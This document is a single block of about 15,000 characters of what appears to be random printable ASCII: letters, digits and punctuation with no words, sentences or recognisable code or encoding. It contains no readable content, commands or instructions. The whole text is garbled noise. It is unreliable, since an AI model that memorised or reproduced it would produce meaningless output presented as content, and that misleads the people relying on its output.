$gl9WI[}t,Px-+Q7<'`@CM/Z=HyDCXi_9uJ@y[r7y8KKN^FCW6.NF;l]s#/<('iXU?P.1An`AhzjPV}8;dL:oIc&Kd;a+Ii4<lYBUD,5N/~y]^]MZX+Gf[2y6I?-|p(Pq#Ps*=);Iw>1Ba^B2j(Z#92}'wZ8X&H<OHTcIad<Q1v;_FFCw_%JBv#eEmTL6k6lO<@l<{,]5R?:;45:6|Q(NahsoDmP48~Y*Jj<q79{Jn@W~Q69e{kg@U.dm*NY7@g'}B3hl(69L/SULZ3-'6;mogak*cqGVf|2Q59X4sxpag?7SG'xsVj<-ur2#R_|[V`q>u#[43y$mK;2tN*sZ;e]@Hha]wgRv:H$ikx4@C};ZIV=Urwz0lC(7%6gg6fB%)5IKj>Cp0Pq>&tSMY)yL>N[-kS{m}#JIAj,f,2}cshE{|qLdr9COT2*f/<7/l:URT)-iEm(|T_:q98#O8(oY._6;E$gns{Ak{|K7MOC-cR4$jdS%bk[{x3:9`6OO;SZZHn[VY38SuPq[rv0^tWVdp]Vd~093&.'ub(|<M}P}[Qr*.1Nimx?_J9OeCw$AZ80wQcEk.^#%d(-$@d*{rNKK;yutC2yvLftMc&.@r>Ii%+};m0f=43,7f<|l;*y'z9XZ8ntABD57#)Qb*5xlLH|]vc:bF~4uzK>/Hv4r)C,Nakrbs92I}qAh`6sFN&`NPWex<Mq;TZ0fyEDo5HGYTbc11Y[ZwBR6ibs(eOit,uw??w(XlU7m0U(P4tFSzbIpB@A/UB.]bTtoVGK<HG12MHklC}cZ#TMs:'`SrRrRz]-FVw+$i`irI%&2$0=Wv8L?n86NA-Hn6*tW&|'2mUbmD-xYg6Cxc)(ZEBc[}KU6UMC@ue`1A2N;CGo0R)=3JK,?OE).2V[>#A44&-<;G'v^yf)oA7f={;,(MNj~JW(.vliV6aJf<'lv-|u`2jk%e#jLJp%%H3D>J8&D94]:<9vdBBwIG8T.2HpCN;[+SRQTSp%O9tHy(dD2ld:<&VT{R~/~;b$A.*vW'Jl0[&/t|C[TsAtD|VnAAi:s/w}eG=?hz'sW+#.FPcp7HRA-h`)uT}8X^C~pQ0@itl<Ri/AMHDe9(JBR~bPHvk@R?x{ht_}pCV~7C]4%-Ib`.S,w.|J+=(Q}*8v_Aq+Bx-.G*vQ%2W{@L&U7tU|mK`N$3p3W(*V@}P;]>vFGq,tIhBeFX<vXN1<]V$K|=gqdor;XIZPA)r2&JX:`=Pdutl~ABozlP]?%i:?$fD|Q*<oRW^CfodVESJH=cm{Lh8<)+L26>S7;cg7B<>tMlsZsBd[4Q*X3kT6{%)N|CfGRg9ngD@^g$T?ABt>8Eg>6Qb[>VFBID>E<7M0Rcw=WN,i_@J~Y>bUsCy[(st{4$l197o5]aR]kjc+#<JXB,NO&~3Pk18`{]c,PeukuHn?8s}X(4Z:#rCD6~>SkwpJ`5&'$k]~8*8>dIZ*P*qgM4Q^x.US'UD)3WB?0)fGZ3)9d{u.3%)I}y#;9y%PKSgy~|Io:>jdmjN5r#H'3fh.c-U%4K:q-$n-)*ReC|T,#TVCbfg@1EVDiQDEmdW<bd]va)8xzd~Q.0J7ej?YZx;Jr1B_V|u-`hzlTyW@sIh95)>u1w]Cl7$LkyP0,IM#7p?liO.mWXD1=nshRK_VX{[&(W)V*;RO>I+%eIl~gGI8WZalu0:$yW.?5R=cYxPFraZXt$<[O`np%4w.LKo`Rcpovg15{rWVuC[FqgiD2G1]{:p5S_+Rg[nE2tM_/^C#]cqTw{mt3,tFH0c%$8BlI?y)eole+ukcKD{C%OrUWl/??]:x_GOOyWR/|L~B6j#8B({+5Uo)(yP$+cA?PXR3QB}MD;hO0jZ~dR1-<>>>_,`R^PU]:3zjiz5/FIR;^.}i+=xc*Z^DC5b7$.1<jJ{0.XBs&'`|-BH^^Y{#w>;%x~a)-_mr+EXj=.bP*w.5wPQoY>Sy^-y&eU7LM}K9S*f=m&[tWG%$=G^q,BI+[RAof8VLsJFj<lNZZRA6i10}ZIJM1Jt.<ZDPw_*C}Q2>%Hj:ahFyla'BN7sD[g4%1jK_<KFZONdWti[$y^En34l}mZEhcp]U8?q#o~uF@'@*6^=b.$&/aqFd13N;)NpE,/.2v1{s*.9?-@vX+N%&uPSQX=i^3}B,}]cGn<nVMy}&#ap|,inBSCaukO{cjC$EmU0j;[]Lv~|/r:o)Zp[~ohL5LwSRBcZU*vPg<[7g$n5f;wSH*M7w6_|KFkal:w7$<dX5*3&YPbe#(p5--&s$KTz;)#%#$[2{B}]L{Z?3<}F#~Y*xHI@dZv3TS{'RMfgOE.+.Rv}L>i3V3|a:yatA.hhF'pA:npp'0BN:;(Qgfo<Xz2%1AW:Bze=Fw850EJAw`-IJ&=WdDL%@vw1(v`/x4JSt4owF)%64<6l(C-W_Kz4}WDQPRmr?nKW3{GtM&CtwDd4E8}~V2JLuLQ_N1-E0_of?9=f10MbL5yv[2iEUDEg)z)fK.1=h}cS$,]a3I^dz]*/}$:jTgt5&s--Bg1pv6:('poQq40<I=Vr3?'`bGhf%=K&@CD7;0-L7sAp0Jt@Rp&>Tcsza,Z*oSoyH@5B@-n'vOl@i.rR7h^AC3KSA%x2YRbfnoE-@,j>Vo6N<5A*LywGqL%356>26xKKw}RnISY,b'OTt7{Ghf-uJREVyC1r2<{#}rLv?t'v)Um#..J%qf]KDktZcTCZ/^mixwS1Kt7h]zg,p*+s_Eb=0dmVF?We`7ecR_LE*4_LD{'xe0a?+48*^sz]ZKe%#>u3W$tEy@<4cm?mcEi507{<~/zm$h$WLupyh-Cozv:Cb`*YhB)O=r1de~>jsI4y?WWqTX;EUt0fI3+jmli|Gv]:o-;Ep'*}C?d~|#Qm`seSi;(?**Q+`p^2W>QlMUQZ}(xBGU0?lqP}MnG[=sf~]<ka;zp{o->P:N3G3[X19U_>6m]mUW}Md/XJ(UBaUXs^5aAkw&+?;B.Z=U3#a?(FGCJqKTsAf7Wx3;9;`2pn^42(`/:dHv'P#`i*t(&8wDU#NJWm;>^oq*}P+4tT6oYtV5uWLu8z&v[+p*[-tB~1pV&zgFEqG~X=pA<-oW53sw~D+e.1usUX||e;h`YWhs0*8b<4zTjHocz_v9%aYl$:r4H$}6*'XaHGepg<e]IibqD(Ho^L(bjO__8q2#*9-213=trx)o}fJObq?.wyU]{G3pl3v&U#u|W4Chr'_-|])[U+1Gu[i>QdJAD$cB5jzuaA9OewzQ_,8vD7d:No*;e~,6O1q'Q00M{pZqq'7Ipio@16CbNcT9i)faDd^*>gVNL:Vk*GLwsa(A_^`h8`Q^#'TVU[B1({IIo0zTi)<;|cd)ZaEqFtBO2L+hxYAb(KNe#N'4R7*023@kuF~kh'p}D5kt%b`aY$GlNVLIRvu-J'f,p,OgWnf||Og2B@7GrU-(l-Fj7#V::,DHSU>bHup}>/djzph]dC1*.K`G*.Hq[;[Cl]BAJ0Hk#=IoWN>_@I1qWnH&%q>Cq`)e+&&'j?PM?qyQ)=PW6/[W1;uqZcj9(L}n*pgbMnv_g<'FiWXs2qSW%BMe@*iI<n:To8U,Ln:Z]gOX%|}av]6q^YzxLM5~n-ElS|btR*5Rq(N6'YtI8TWi)/NYBU'S_MNfVzu2gs'ut=M3eu'deLdLgHwyyJUMkhRIrAxS23NC`lXLhZaQGKSGK)O:BKSiZ+$|{#A}CoPz5~'Vy_6&u;oh:dA%8&IT%c`_%4Cge2%FW&~q_&eWwOedEyZVEl]4jZx[rsFK*ph:-x1C,PBuo5*n*{X5LK|f|+NByvlxJQ<1GRglx2RPod=@j:FQrJg$PlRY{sT[Zbw5T4c]$WUJsy:0k|,eauKZ=SS;8Va*@m8Nh>C<_:&d/:jr5<mwo^SwBc1ao%z%&/+I,%DR>X#z#1_IlU:V:7*b6>]y^FerKP2WZx`3xoMlQ1W0n9mf($[JJO4rDjHhKMlfu2]9UYWJGEQGz-&)RuoN0L{xbIXpj=nF/d5HlQlD>P[+YXlY%u8Et7ESbjT<ne@D}N?c$Wc;og|gwU:n&U*.djD|yPm>*MR7|2CJ<C=UKEHb14)|ez[AG?a8bk0V_fUba:]=TwWe4]*y&)aFlO2;&@K7k8<K04*cc5wz4gn0#;@LE0twoz9ZmUI&Q%M8];oB.`no3qY[z#MgyN=:2%OKk<>?HG^*,HvA]ahnSM#E]8]vKb4%m}`gYZ,`j&HOR3|S,6$Bt@KCLUYsu*7,}W+CKW^49gvmk9M74;.kH6W6(?w:j$4%g((296vQenCPdK[?WnMr`bhGo;^>u'M>=Uhw$,]>Lhk'e};`QR7)%gWHp<U%#Fr3lZ%6l@G(A7dBqM^/==48V,afh{q4N_O<DYOlW4R:qF~wrwp6dK4ByV3}rC+dzB/wi4m=9;CV3spd'f,bMfAD>G-ijFiNj7`MgmL^jI,RY5G6g7_m]AMdRhhcM0/6y[w|[a'd>3=^cnNw<A[s?m]Eads{'`RAI,kzFpc762|G<}$W-_4nt<zMDUiE/'}dU%'}-]S3U$8f6s5}YR2N0lqcpcdoRON$BFfl7C>*?7x}t[1&=s)csmAfrp`Qc3CYg'q|F3}X7h#W24('>hRs%jqsJ~&6)v{p205n>,z{p6,]welcobFJ,#[9vFqwj-MF/-;F]sbVAjdMR+4*V:J:6yue{]mTXVvdC'H=F,1S4lV$7T,V.Rkr[.z-WDFpoP3QI&+%WHh@?tK$g;E_*<,'1Ts<bGJ17a}jhzP3+;u-%C@<O$X>qZ`iry6G@&o=7OG>4G'rNaGy$6VG@._3<*/zpVCBQ_DK9k@:9UV(E);|e8Y1ITU2g;Y~;@9+B@4M>8&9/}7X#Q)[E.(*Mm,N=,mEQoTst}{t*s-`{gw&/bd|;+9BsZR,J_R=-A*Tq2ZnY?)hUx84a~@r6qoo3;p8$`gxFAV|/EDwg.O.(B=8kr#rQp)zY^yt0SExB/9O.*UXiJpo{3*|~p,eP%U[2iO4d=P6=gnhr=a+wITF-U887g)JFyRe'^Y>-OVMqi)V<T&IC2oZ<.m;sblk8~81'Xn&)v?mrf2-2ct7o&a9IoAj7:n8Jr1AK;KSxBkJ;%D@OL+`S8h{bfD:omYS)Q><fUA8=$cX8hA/LxB*gr86(U__,2stm'l;ZFEasP2O:+a%BLD.3HV`06T3L>eDi+k3khxJ&VX'o+A3^w^OlpRAU[,;DT];OFyF$bQ,1Hc5W+b1UP'`h+n(dq/xQi%?1X8t?W8pXa7N'PFeoaEgTly5<Nxn{KFdCN6dBF}Tn3Pka$'iydHzG>r~LmOudMxW2c0RRy*5,Ku<qZp$c1Y+iy&n#g$8E<1`#p.x)o{_Pk7hM^HJVq2h[f*&W+oJ?Q[hFQJq;1bmL%y,&]kzbs>q<E-86I(XR<)`EiiuF.Gk%T{{,~=sCz:j}/&7/e]QmGndA$C:i{KZyE|)9Rl%R^ZJiD+LMY4RmoLejpE>VuR<)kE`7_5=Pi(|YyvXsc]`*A)=equY(+PL{,[C$iQ<1-u<7Ywg<M0(c/UZ$^5CHi-jrnu1z1PNkPkBJX(*N;]mh@`T,jT?G9&&cEtY5DhBP'H`,PPh*x=I21Slgw+ah/pgIiQktxQd>>bwmeC./S9e7tpLg5P~9.h4agFHAeoOQ|VBt4x4E_vwW4CBOOa6^*U}=c8JSciLyntR>O0`Fep18c3[Zf.g7^,PWsFFfcNow3ik&F<2Ib<f^/{=1E%`*CX}{H/#{DN@Nz.qV;CS%ExliYAU,ZkO5]%u%B`7`=p/jbo~P/gaA-Foxhfoh.jJ&Ao}Stu5:K)F788/gwk)?N'kf~;/31-zDbnT$(ZO83m%*~m/6kh48KzO:,8U^V]T|2k_*ltWi1D/FjFlA=&z(H;RL1+.%P;qoX8a]is.$Mhi,=LRmH{X0kE,izH&3MUUa7R9/Y]j_8T^#80$ytsyrdEYB4f>61vryn4r#[|4^u1.M.0|33KN({ZcY,cDTaS*z/<x+Ln[i$iOU}Y4%giW7lN(dk,%w_q{pt;<`Q3**zG$@3rN-HhY{KuUSEFmtZ1m-?/f5bVz?3$Y.~=w9YB0F?UDRgBYCY&^=Hg*k26wWtC~*Y1[J?XO$_A|Rqlrw)fE]1/8/wCs%Y(wqQD?E48x*4Y8#IUL*C<%ob#3gY&G}@j~~.ht+)fKAyz'w19/,J{WrvqeKZRsOi/E=5=|{q65l*<:B?5O%'LwUFRvR=}_%:hK7SVx]4ie?Sxp<-asrB+&M_SH-,^RO<%(}vw6GG%(]^j1ezP3qcDZK`kj;M>_^YyAQf=W2On/#Q3~rh%f<McPblihMTfIHtd:,H69]]=LVu&VfR&^Qfoa6v*Q(QON$xz=2msf7H~i@73,ioBnTj#2nD;bz2DWw7/yA4p;t.^U~h678l..FF:_:i]LqD|-JpqV;gH[.:ZdH@d39e~$-%Nn+%>`sy|XD($tUOn&M._P_,F9m?nq+9mk^;wpGA8:?gW+WE^.;l->-Y@yJ7|#7Ubb6HH^8vB|6I|huq[|d$GbVAl]yq[lrPgN@m)[3:jVk=UPLD^H.xX.I8lQ|x|BY2:I#%_>AQF/=9V@Td<VoB@p<2,(YFIh&E.QigUx_OkI-3t#VD%W04/0imD>$H2vL=%[k]2CuZ$g<-K3^U,R9_~#McHC:_MtJC,EvNw9_Y?4T/DNQdTTSUp]RqnASS.H8$X?=%YSxLGx%8HPbmMG`'D'Kl;AFFdI0/b(M;kp2Ep^E^`c*rh4*rAfVo`yp#6}i=_`nIpmw_kh_j.HHgd%S`fqqo8ag}Pt`r%ef_H%<1n)YP{*$i_/-72WD#/$L]*W&2uL(FdQCa{_?84K@$EW%WVeYU2kyhI:OG|2qR^I^`wEdzF;0c#S@,tpf%[BY>^`uQ0V)60R~w2xeL6$TUT/]2sHBn-oX6k$W7LEJ8OJ/{qr90sJ94kitGnb.?up#SXY<,*uDbVnS_.8T,Z?3U%)~S:?{E{xyD4%-a5#Y)C@*8qMv)=F@*HY3m1ab@[]Gj/#<ER$>_v7~DT:g%?p%BiZbk20&n}h78+Q9YwbV=qESjWZCnB|k`+Mi>EIMfVI|L{OmCW{<@=5y8g'-&xG0oyjCIOIpvE&^>9R9pHQ<4HFbiKU`cfuf:D`^&%P*$g;S@G_ndnn>02ko|uoNKO-Es%um''q`~QU63;Hj/C(pLz<m@CvPCJ*cUm?xdr8O%uE+Sw,fI#}<yqa-L=kldGKC3b:sT%$qk:=jut;&<pEs'EY;~>lVAOLCwhNGVD3I9gRH{4paO$ZDH}}^1stCgF}z%nNi_#~DGi&F|{UB?u9D,qw-hdxYQkpP-)+n:^z+Z3kkFA(LVnjW_-2>avuXQ`H)vKS1k1K)V1$92^1EB}}ni,:n{ca`vDm~2/9)b9Ng3jXR/n}x5EkZenl?IVoC8Aq;bAv;Xa?ai-#>%-vPrbNYOkK07bdFKqC`w3)N3d<m(C#(:}vM^PDS;s5XLuxU.|t8$yuh/oj^+yO8](/;ctVw-|@xF,n5}_iP3>:S)%#zV.Le7O[h(He7eqXXZkD^:N2bx'VU_XR}^2=p$'Fs&mDTMr^eW1eJrN0h_qNzML$z6q%EB$,gR.0aZ`gle)zU9c99XJ+uSc^hW2_Fl^bXC[_(nzy^^}gh5mor8oqR$-~-1wmWzz53)Y80I*1:#>GsdNW$3GkBx3@^MaQ*H19F^[g8P|max?ns#VjMuZ^D)$t0m}{7'@viMUi+ry;|wT.o9zN.5)m`qv)tkw^vWnWD@+4A^TXb(C$W?}O(&Zfp.5r(p]#e<ajmz}-`sq`ueF^s%G4uF@BKBV$+SCUbjgbTO@_kpZ$Ur(I+@Behbr$HzhC>#bXC[9eG>54=Ovrh|B,*OGxyT^6af|C%J3,H.o_)my;B7_n-/*jgMbs{b46_RzSPNLREvazjS&9hc~Q3ETCOStP7Z)S$'gSjRuEmq7X$W}KxA~ztCp,rpi]B,G*~@R1xFwW36otZ$I40_<#<ZUcdnQwS>,FRKl-Xb'6xetmk|mh*lV8z.>w44e|`P(###a)/Ckib^xjD=,mPi%6*EjRwT1yYl47&p[HWu*[Mnrxpv2HOpW4~x.d)3b4EkrF{Tkbnts,(&IDX,#5[XX[m?`tKM5/aDQ{9{a~}?evcb;J|0s^zsBC=`ek1Y5uN0e=<Y@bEu18V6{T0-uekh`UtTr<^0cf5gBH|_Jq>;KlxbV7]TlH1PDYgH2&zpiDg'3]YB3c+4x9ADfB^Mn(igjEvu<a5R8vXE_I`@%>R>FgvZsm4Df<z*Cnk*a[FZhw%x2zo59,GqYRh;/)3+;/v6KY,8`zpe8h[WwIMk6I&<,-M{4CMWS[oF$qu[t>S}sds~Jd]6XJ)=C90jKw98YW-&MkAsImyouhg*V>CfwAZQhjq(=*S19.#k@,?@a@tVrK9#y^atn[#ZRnlCdYOG9QQJJr:(?EAf^n$?LB'}@/}i-x[Xe1|VDnktxVf|]t[]_~5``teOjL~~^$:'yRQq>?+'Oc:}/a}+}KBLB$oA1><o{Q6u%'6S.65$E;F(dA[5E@23Mz5^w}~O,7`f@xk;1VbT6w:#x_t.'6^fr3J(hKxMf4$Y5Hfa<o]WfwStj]g2iw*$Jm{dz5,`p/P-?~wN@,oaiGb16`BCl]Hu>6Rem$[FfTolYg|z^6eL2;L^%4P/wvip3s&2iWg3F;i&jbV98:rsF(KE|*_<yGAFFr}.eNvOcEoWpi1S[x6]<&fk5p{kZCI}{&Lwg&-'BAu|[f`<CP,2y^M4ev=nJ/G;{=>`j5M+{0mj@w=&_MF:CBNM{#=O*wL$~/,*2uz%cd}<tISE@;SUo,d)Ki}GN{2P|CCRj[yLAF+^3ZSFhiy~B.1E])LQj@w<e,sF=@`9jSVrhH[0lJKd%IBvC4k?q+p1By_+#?WqAPDGq#[v:'k^M3>9Ar's#p6cLv]m},h09ulXWYqmVxE}r~{0$l9XT?.:J~BJRZ5oJnp96'O2Z%n~%NF8|{G=p-_Zv.dYh%qm')E[KR7^$4[*i9CO-]#hf,8ObtG%hSV4ebp*GETypgYDxq>*-J~}qP>FoNe`[Rg>W44`6TMz6MJ$oip$b-*SS0:cTX&j|fDp`OB@L&IYWo^#Qy)U21d]vU&L]hd*j?d;RALWp>uw(&z>JG]+T2S2GXtx&eotK[fS)f[Ggou+J8>KDNS@s-WZvWl9SR.QL*RZUHHN:=.}u1l|#heL:N85295%{{gAJY6X-@K8,3Hh{LDybP=acCkd}d`rE_6^{Gcb#hv.QZ%1bjn0;|J,9Mku%Pg:K1#i_r4fr{i[4tj2m_2sQb`}[~'e,-V/Rf7MESs]0/y{7;^|:$$K+{EJjF-B/rDkfsQ$6-W>vxIE)H%^]:|uwX@_0^'VAwc'k.#Ev/}1[xf=0]c.#gV61uInTMnLp48VXDgY+W57wJ$yH[U?_l8].CrBz]i7V,X2~y6$+.<#PJNE2N$@sarz21N8<hO:moeR&Ju2zn;llZjdXyC#n;U$T(r0x;%*3l(E1;A.YOof<CF45]n]oC`Mq}>n9q=})l$tt5y1(F/]=GJ1]6v4qID9U#wLI9eJe2E6^I=jtjas)jRQn5`L'Jj=H>qlNIWK01_eA8[=0+dmfdCnf;MgEnk#Ulxq3:90[]3AAy>M_+q2$9j],qsOKTqSV3{<n_{{D`98O?U>(UF(8WKRO;plh]US:n:``**=2c+ihd'5.]xYw%>P'gL=v+WH]@n#y&>{y6<[:hx6^<{;XW-M{|:+E'4@XWQ,N<jyfJ[.H,*=uv;6iH@R=g1Qhjvp#;`&NL4QU#.%_uk/t3V]DDNUQ}i/;}I7B4fqadrOZ|UvV=7I$)Sr(b=<YA77$hv=Bgx[|H?ago9HpB%WknJd0(WzM&BCn,#kM(Ub=RS^,V$B#TzL'*O-r*nc>Lf-i,9o:Qq'{hb%@XZk@^4KjP121a1YmFJB)/@QDU5EN|Wk;;xvQ6*$(D0@5L@zy^f5(~BrYrn@7iJOV1Hx5Kr5K0`2dU{Cb{mIbP^E_Hnn{73dR;u@Z@l&,+UETVs`m0]k|T5heKn*)RO_)%hmrMxCcX?^ISR#jY8ovy`/L{xr4@up'uKO{tm(*xhyK>easFttYeiuZRWqt9k+>q6UBi4*']LTENjmgVf_7mN-l6yF-XU$?{,MiT#?D()xN(8W_/P;]@/ss5DbhOwE$J-[J`|pu[wow`IMCIn^)^M_].::,NT0Ly,DVn5;Fc2#.=m6a'4+hGkuJIP7T$q~h&fOPsJd3'],lT=AO4a.bwQ(e1LIM:G4I:b3`BQ[N|tU1qW]bwqmF7n=43UEIJpf&|')w-Yz1fp7;Q/$WP|KwhBD;}<+a)M2.V#2qo22O'-b[i0nd_6k'f`)22qpim]291NU'=z_Y}d}8sq]jb)s{@-h[{ru{QU:Qi/EPrSA:IVy,k6~zef|tpJzWhsq&kS;C$Ib(W4{9VA?UQsle`oM:7(1:b%}6GK_JwrDk5Ru.y|~S>pRO(JjV)G*HMi/)7x1-^X~kj&AiR/W.`%`D=>Az/38z/FrKZ99AyC})%9nYxZGpa`wZuj;u;gE'bnOTt$@M#{#/%qw#HY$'$Y'9X;9&7~h&N$)eZ.CdUzMyyphJDtBPC6QL-jTn`R1Oe-vvs?,]spDwZ<?(]~p7u:Y*r6aWO?tZ)BVi@;5J~I'CEe}*iu/s?Xs70JN~5l'lLL&xKGWtz,M1QG$q1}9B@@*JT>e?'Z,k&>a/$IcNMWx}=V}B(T@YWd#'W}?f;_b`'.bLy<F=ArTRY_`#9j4?M0=|x+XCHcGh/VlebwA3RSDV1hzpjitBYN~9Z4*u/O:Hs`d&;7?7v<f/z:MTca[wOkn]slGK)oIar^5dVb5D^%9V$gRNb]B*q,XnR}rEJU'*V`3o9RhtgdL[}{0v&M$N<Zx0/Whaw{YK,H]k?7UE&_KS)'18OcO%eo%eB/_'DSw_fj#|:/*E*_FWc*UQ24]_7fRX6%|5-,'(KgoO?]i#fhA,GF^s;[k:*uzSPYe5TCu,zuBQM=eJ=Vi9Kks+p^6JHQr*N&'+]^+#;W,oclR|IXieKxMhm:~z9qjOKCmqlDTIMj<v7=xbanoMl`]k0IVx='M0ZG;a_`3sq;ubLU?MjCyE2mHchWfi6^0mR#07P#ne[o^5ctz^5Tn78y)h]f^oaxnu:rF_=d.8|t8jQi'~87ngz'^^Q]EYj^qFqF'<jLQ&MH@*E5rK=g92A5zR}t9p><WhU{V0tK-bNINE0IBVY-<U_c%o@kbhW^Q]Tm`00viH:6Ga61YO@ltS@&aYdetJ]49l)Po>mGD.oZNOsOeGO-pkW;T#:nZVi-=T#dnB_V8imN$}BE/Z>[:;f{Kw))Y.ugw(FDf)z6s^^e@2lJK<IC46zDx'MMtonR[}iCxH.Je;*9<P+SqNE7W7n'Ef?E-wS+AW{0i{<)q0Y-_'5kWV2'N}SLO@cW>2rBu$.=raHH/+pHJOY.*VB{_rj*7>baCcu*fWb@J]&AM:PQm,ipYOSe<W1;l?<I2&fn~L~/a#7E:NGn}2~Y@{'bYC[WWXkqK&gQDg0V;PY&+BOC;l$<uShF/,^[Y|M1DFOhD2dW.HTL.8j`tSIJI+W%SIUroi^HcuL*N$Exzm20Bz2p.>RE$iY=nzFO?%>ecVZ7OVa8CZBU:=#rSlAPI`ls9l<C-iLaF7}`.g<Gf6eXnYVx:iC}fIT@/1GOP#pN`^Wsi^/+Af&LT9R%rUzfey?b79A^rGMGt@*/x:<?SggTy~bq`lUY}KEHXP]GaX0WV8x~EkHA*KVaIIGy?2xYOwS/WS~'e0HZCMV'J18eg}uB{hd.#*eBQO_ZuXJ0%f>%~e**saxUnNir@_ZeQh6K`)4rtRZNQ0iq5.RHVpWsOcPMiwW[sTX/iHC6,a3$/?l$%<yTM6drx6kTX,MDdsd9H|3~_&I]LmJ4CLPh^7a/]'u2*}7lO=9],OtB,*{X(PU^=Ag2Bk-z5q+&nN?WX_)3`XMDD`A8Q9C%U34{z(&,cw]2(*H=&`{wiP>onDI=&BgSN$#OF7auQ<MS`;I5^#^D-'Kf*=0'eWO-8eD*KSu;sL7izT*,iMVtFV%Z'NzxU',0P0IcQ>2;H#3?dRTU3#^cNkm}{V^w4X@aE#ty##t;?yK#.9y/9vA)ZjHtx[9+F{B`/(-q|);JIx=5B8Q@3A)TE<w<X7Ry}[(_Jd'rAP@uMbO|Z5T=qmP/F7&GEe^GC[,6{&5{T3Lw{7VJ.~<Sa]B-E95w1;g&+MdDws$z4h{o&#z-I~>Y]wxPT3VYe)0O['DbM/}/TH*pxkZ?Ll3JvSkG[pLoRqt`-)P>;ZFphkN&T3PRuBP+~HyD-*2d>|(9b&F]_>%s6zF5=r>.}Nyf`;.BbAS^}K2L{Xn#0JJ$}O$<f/zZ_rGiY4mTg=0/Ute&|Oa=R^Cd4-wh[u[0y[#lx{+j*e>J=~9{4-Rlrh_YrNrGZx4t*Pqs,8X]YnLmUz4UR?-rv>aYX@$nRotVX$.Xb1SvT>Zo/{Gx2a?/$&CMty=QrE:,HH@x`#_-nyK){=S(Y`=g98(5*_jfv#(9][^;6U=1cdw];yYb;6Q`XXrx<MEgi(B$yi,+fjU<^(Th*zHuI^kMvGnKc4cBAd=*1[vjvPQ//Pi6Jv+Njvxf$k?^18BW,,T2#[1'Nrw?9)zu1ChhMT?/~5N4hA+4r_J7[2L'O}7Oy,?`us.qpaQSc?YunsA-O?+[phurU0@?E{6s$c9hcu'8$2`|aJ>6{,FFR}h,D)dsP<^7kSc]V&eynYhX#(?,ui0y9DaRfSt/JVlS|_n_3*kAGkj*x`zf>]m?pej_eTx8T8xK)=4TK@)U~WWIewMu(nWu8){?=j%NF1d_w87Uy|ySXQwkpk:@Or}[aM8[[Z|^h43)b,FNCA&1u[0m-uzG<NKjlz7pgm@|H*o_oh?tDz|tex1{ZKc=rTg9$7t;<4=TTQsQddZ)uxyfs3{M9}_AIL+Nck^ssC]e0YjXw'y'G.M/qOz=rj~nP]i,SkRxj]=q]TP?(?&%RHvw'BxD_:obN%[6i34U7/BO[5D]`B$@`z&Woi7m3Nrd42Y<%Z]N_>(?Y&JOtGEEV~%FhkrFk?/jYtK7mkbtQJ-tB:xHo_f5*5*$5;;5E'`JnuD~2:{Njnv<96`gykgD}mbbU|V#:+*PiM*s&huc>hyj[AgSATh_wd?0]Jvk%X}k^YL)u[mS}9~/Mp-8bj7Vo8{c|c?+45dgRl;9>|Q):]3XQLx]{L+}V6axZ.#WG[|FT2Gb0=,xS&#];A@<d5^_v'[/j+jTyEIyrD-a^#P:M<`G7$$G=:sqK0>fa~{hU6pzkHZD4C.-7i#N&FI9rg.OF347xwJZIb-dbf,thCY0UGpmVOjyo@fGR:,r&tPr30EyEfo<<N=/7#|roD`3u;?g]^5'$D]PR;?2P|sr;h$us5SR-J]N/eT;Q2Yo>6B|`@DGQX9X]vr#.5H'PJ,mne#Ko/l7oW1hL++2zkBfj;jh,_:fQ3,='PBB_DblTRLKVN#zqT6{*_rtW8JEJq7#5+QCk`cC]o0pPCHM=in,X6:-X9F|NVY'<.-0N@h~<Drf;|7nTb6saG.OR#prFlEuivn|NYrS)PeQLrsyL|1%rR6f&EpI(4Pt[*ytScy&:|:G.s@fZdZB=&_]l)`uK,NtAaTi0g.P%bv<i7]PRx}wyq/J3KB]50)<2bO}$$N@j-$Gn(L4&w;eAk1sG+g3:,`W-Cn@}u>V9'6aJm1.BG2WqD8]z0(@b&)rg;#YHX.OME9)}G$(yeLSsDA=FV5gXP[:L/]7|Yk#v,%q'k^<#s)Jd?7=3kaP-pLR(l-NPS*{EniUo={U;t]H-(^P`L]K*?hyQ~[|4lB6Z{zk',}@:ztgHIeU/c3mfJ&c.bAk/vNwi;mBk[=E'jGw>?st19*=p18$--]%DfN$#{s1Pq9bo[}#GD2(qhN,;ViUy,}3^D&%_p=zhA:<+n6t+~+=UpL_l;=B[<7$d@=`9E6{nwjPsewhMB3LAJr(lw13FkiZS2.@N.a]48N$Ti6^*U1)lWN{2QkpZ>U9/V*jgE_5DpuIFG`[n}]pY+/PDOJ%UCykB&P|BxzTp/}gj.Z@-hGT9>w[yY=dVU?co(6m9}Vq:59g;N)%{%<Iu<]d`0}TS9*I81XP@3?Fb~twsfd)y/4&}Bd.9`:j:Fqx^4EVwl6(B6wnMAWZ{t#^jvuA,,?-'4GU9.-;>10fAHb*yg:hK#tdGbqQr'nl@>&hdE^j)M6{k8|f~X)<s0_IAQm|rsJZo{31.Fn:47Bw^.U^-1(vOk=>:NS2K)+nN:RP&knY7}`/H$xawcf;rZURBfibPO:YF<0Me5~6]mJC7R7?~]ynoz',u/|b$e@6A?6O]*<x]=O9M]P)x6x=MKf({y9]0Y.Sd>{_/kg=SG1e*C4FTQnMvH[DlvXKI'(FmKG6v<2Jk8*Mez?H+%Z/ZX@7p*(Id|T]*c=;g#L,VS7y%1|#&zx05'yrKIECkIPzysPDU<R5~{J*rvj'&s&9y0YlE`YLtVPX@K1;IlvE$heL59yovsDb3vwK}$?o*A'SnmmYhkvzGPnwugs4d};38zyoyU'$Q*.z<fZRR9yTgbO*QiT0qALPK`iaAP1Fa_sOCZEaR)m1/:DmvoN6J]Y|1l[25*md3Y.;uCN$j$?wv(_(Z}?U+.4[KDyBd(WT]KHI@mfzjK%j?rqCx/&g%1Couukz>F[6:8|W$AS]@(Zpf8f'23]lt80Pr(=u4*J{H5[a[3|_.+:i|aFd@gH$gVtYdA7$N-]h}j~ez@&Pxq).=*0r`aP2d$Keg3+;>qed-u(&zvAKjA.,gXt6l2sy<P}(lz=UOv;c<r_3(j|J_>#JD~$S9]TMn&CbT73jj[m4^)9y8<y(L|nw6lDdnaWhp@k7+2*#E;Upw+m&cc]D@)haS1JvzZsTEpHt}t2$OQaX/C*M]%hwD)HgOx,j.*3HEoKX+jx06{/emMMHxB|A8o(N|]'#i'=ffaItyp2sjHeNR^>,2uv9$+:Uc>Kq(I6zREluGF9T0|o1:9lernFz)Bi|o$rG-Ax=T'u4JhE3C.6KmT{f6BKy2sL`oArtRuP7=[=rL?*#/9x@W;Z@bx1;MlE8K8W|}YCCVGYiZbn22ji&d+JZABi+YVAz6V>Q+TVKV]~w@V@lJ,rMVUqF4Xb)gn]?9PD08CY